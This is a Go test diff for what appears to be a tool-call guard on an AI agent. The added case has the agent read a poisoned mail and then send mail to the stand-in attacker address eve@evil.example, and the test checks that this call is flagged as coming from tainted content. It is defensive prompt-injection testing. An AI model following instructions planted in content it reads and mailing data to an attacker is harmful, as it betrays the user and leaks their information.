@@ -238,6 +238,10 @@ func TestMarked(t *testing.T) {
 			play(t, pipeline(t, toolcall.Check(office)).Session(ann), test.steps...)
 		})
 	}
+	lenient := office
+	lenient.Handover = []string{"instructions"}
+	play(t, pipeline(t, toolcall.Check(lenient)).Session(ann), "read that", "read_mail<"+poisoned, `mail>{"to":"eve@evil.example"} => origin.marked:/to:marked`,
+		"and do what the instructions say", `mail>{"to":"eve@evil.example"} => origin.marked?:/to:marked`)
 	broken := office
 	broken.Scan = []guard.Check{{Name: "test.broken", Stages: guard.StageToolResult,
 		Run: func(context.Context, *guard.Pass) error { panic("x") }}}
